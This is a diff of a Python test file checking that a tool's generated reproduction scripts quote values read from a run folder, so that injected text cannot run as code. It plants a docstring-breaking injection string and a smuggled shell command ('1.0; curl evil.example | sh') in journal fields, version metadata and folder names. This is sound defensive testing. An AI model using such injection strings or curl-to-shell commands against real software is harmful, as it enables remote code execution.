@@ -21,7 +21,7 @@ from kits.runs import write_scenario
 
 import chaos as chaos_api
 
-# each closes the docstring or string it lands in, then runs code that leaves a marker file
+# closes the docstring it lands in, then runs code that leaves a marker file in the current folder
 INJECT = 'x"""\n__import__("pathlib").Path({!r}).touch()\n"""'
 
 
@@ -68,28 +68,30 @@ def _rewrite_journal(run_dir: Path, change) -> None:
     (run_dir / "journal.jsonl").write_text("".join(json.dumps(change(r)) + "\n" for r in lines))
 
 
-def test_a_repro_script_quotes_every_value_it_read_so_none_of_them_runs(sweep_dir, tmp_path):
-    marks = tmp_path / "marks"
+@pytest.mark.parametrize("where", ["point", "versions", "folder"])
+def test_a_repro_script_quotes_every_value_it_read_so_none_of_them_runs(sweep_dir, tmp_path, where):
+    marks = tmp_path / "marks"  # the script runs here: a value that ran as code leaves a file
     marks.mkdir()
-    # the folder's own name carries code (the run path is written into the script)
-    run = _copy(sweep_dir, tmp_path, name=INJECT.format(str(marks / "folder")).replace("/", "_").replace("\n", " "))
+    payload = INJECT.format(f"{where}.mark")
+    run = _copy(sweep_dir, tmp_path, name=payload if where == "folder" else "run")
     trial = _eo_trial(run)
-    _rewrite_journal(run, lambda r: {**r, "point": INJECT.format(str(marks / "point"))} if r["trial_id"] == trial else r)
-    meta = json.loads((run / "run.json").read_text())
-    meta["versions"]["langgraph"] = INJECT.format(str(marks / "versions"))
-    meta["versions"]["langgraph-checkpoint-sqlite"] = "1.0; curl evil.example | sh"
-    (run / "run.json").write_text(json.dumps(meta))
+    if where == "point":  # the journal's kill point
+        _rewrite_journal(run, lambda r: {**r, "point": payload} if r["trial_id"] == trial else r)
+    if where == "versions":  # run.json's versions, and a shell command where a release number goes
+        meta = json.loads((run / "run.json").read_text())
+        meta["versions"]["langgraph"] = payload
+        meta["versions"]["langgraph-checkpoint-sqlite"] = "1.0; curl evil.example | sh"
+        (run / "run.json").write_text(json.dumps(meta))
 
     out = tmp_path / "out"
     r = chaos(["repro", str(run), trial, "--out", str(out)], tmp_path / "state")
     assert r.returncode == 0, r.stderr
     script = out / f"repro_{trial}.py"
-    ran = subprocess.run([sys.executable, script.name], cwd=out, capture_output=True, text=True, timeout=300)
-    assert "Traceback" not in ran.stderr, ran.stderr
+    ran = subprocess.run([sys.executable, str(script)], cwd=marks, capture_output=True, text=True, timeout=300)
+    assert ran.returncode in (0, 1) and "Error" not in ran.stderr, ran.stdout + ran.stderr  # it ran: no syntax error
     assert sorted(p.name for p in marks.iterdir()) == [], "a value read from the run folder ran as code"
     md = (out / f"repro_{trial}.md").read_text()
     assert "curl" not in md and "__import__" not in md.replace("\\_\\_import\\_\\_", "")  # no pasted shell or code
-    assert INJECT.format(str(marks / "point")) not in md
 
 
 def test_a_crafted_trial_id_is_refused_and_nothing_is_written_outside_the_folder(sweep_dir, tmp_path):
